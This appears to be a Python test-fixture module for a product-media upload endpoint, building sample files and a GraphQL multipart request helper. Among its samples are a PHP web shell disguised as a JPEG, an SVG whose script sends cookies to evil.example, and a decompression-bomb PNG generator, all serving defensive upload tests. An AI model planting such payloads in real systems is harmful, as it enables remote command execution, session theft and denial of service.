"""Files for the upload tests: a phone photo with GPS, the hostile files issue 10 names, and a
``productMediaCreate`` posted as a real GraphQL multipart request."""

from __future__ import annotations

import io
import json
import struct
import zlib
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import ExifTags, Image

GPS_IFD = 0x8825

PRODUCT_MEDIA_CREATE = """
mutation Create($input: ProductMediaCreateInput!) {
  productMediaCreate(input: $input) {
    product { id }
    media { id alt type sortOrder url }
    errors { field code message }
  }
}
"""


def phone_photo(size: tuple[int, int] = (640, 480), *, orientation: int = 6) -> bytes:
    """A JPEG as a phone writes it: the maker's home in GPS, the device, and an orientation tag.

    The left half is red and the right half blue, so a test can see which way it was turned.
    """
    image = Image.new("RGB", size, (220, 30, 30))
    image.paste((30, 30, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Lombok 5G"
    exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(GPS_IFD).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "S",
            ExifTags.GPS.GPSLatitude: (8.0, 36.0, 47.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (116.0, 27.0, 58.0),
        }
    )
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif, quality=90)
    return out.getvalue()


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A valid 1-bit PNG of ``width`` x ``height`` (900 megapixels: gigabytes once decoded) whose
    IDAT is the zlib stream of all-white rows: about a hundred kilobytes on disk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


PHP_AS_JPEG = b"<?php system($_GET['cmd']); ?>\n" + b"\xff\xd8\xff\xe0 not really a jpeg"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10"/></svg>'
)


def truncated_jpeg() -> bytes:
    whole = phone_photo((800, 600), orientation=1)
    return whole[: len(whole) * 2 // 3]


def post_media_create(
    client: Client,
    *,
    headers: dict[str, str],
    product_id: str,
    upload: SimpleUploadedFile | None,
    alt: str = "",
    query: str = PRODUCT_MEDIA_CREATE,
) -> Any:
    """POST ``productMediaCreate`` as the GraphQL multipart request spec says: operations, map, file."""
    variables = {"input": {"product": product_id, "alt": alt, "image": None}}
    data: dict[str, Any] = {"operations": json.dumps({"query": query, "variables": variables})}
    if upload is not None:
        data["map"] = json.dumps({"0": ["variables.input.image"]})
        data["0"] = upload
    else:
        data["map"] = json.dumps({})
    response = client.post("/graphql/", data=data, headers=headers)
    assert response.status_code == 200, response.content[:500]
    return response.json()
